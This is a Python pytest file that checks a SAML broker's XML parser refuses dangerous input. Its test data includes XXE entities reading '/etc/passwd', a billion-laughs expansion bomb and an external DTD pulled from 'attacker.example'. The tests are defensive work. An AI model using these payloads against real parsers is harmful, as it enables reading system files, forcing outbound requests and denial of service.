"""parse_xml: no DTD, no entities, no network, size and depth caps -- and fast refusals."""

from __future__ import annotations

import time

import pytest

from broker.samlxml.errors import SamlError
from broker.samlxml.parser import parse_xml


def code_of(data: bytes, **kw: int) -> str:
    with pytest.raises(SamlError) as err:
        parse_xml(data, **kw)
    return err.value.code


def test_parses_plain_xml_and_keeps_comments() -> None:
    root = parse_xml(b"<a><!-- c --><b>x</b></a>")
    assert root.tag == "a" and len(root) == 2


def test_xxe_file_passwd_is_refused() -> None:
    doc = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    assert code_of(doc) == "xml_forbidden"


def test_xxe_in_utf16_is_refused_after_parsing() -> None:
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    assert code_of(doc.encode("utf-16")) == "xml_forbidden"


def test_billion_laughs_is_refused_quickly() -> None:
    entities = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    doc = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">{entities}]><r>&l9;</r>'.encode()
    start = time.perf_counter()
    assert code_of(doc) == "xml_forbidden"
    assert time.perf_counter() - start < 0.5


def test_external_dtd_is_refused() -> None:
    doc = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>'
    assert code_of(doc) == "xml_forbidden"


def test_undeclared_entity_is_malformed() -> None:
    assert code_of(b"<r>&x;</r>") == "xml_malformed"


def test_oversize_is_refused() -> None:
    assert code_of(b"<r>" + b"x" * 2048 + b"</r>", max_bytes=1024) == "xml_too_large"


def test_too_deep_is_refused() -> None:
    assert code_of(b"<a>" * 129 + b"</a>" * 129) == "xml_too_large"
    assert parse_xml(b"<a>" * 128 + b"</a>" * 128).tag == "a"


@pytest.mark.parametrize("data", [b"", b"   ", b"<a>", b"not xml", b"\x00\x01"])
def test_malformed_is_refused(data: bytes) -> None:
    assert code_of(data) == "xml_malformed"


def test_non_bytes_is_refused() -> None:
    assert code_of("<a/>") == "xml_malformed"  # type: ignore[arg-type]
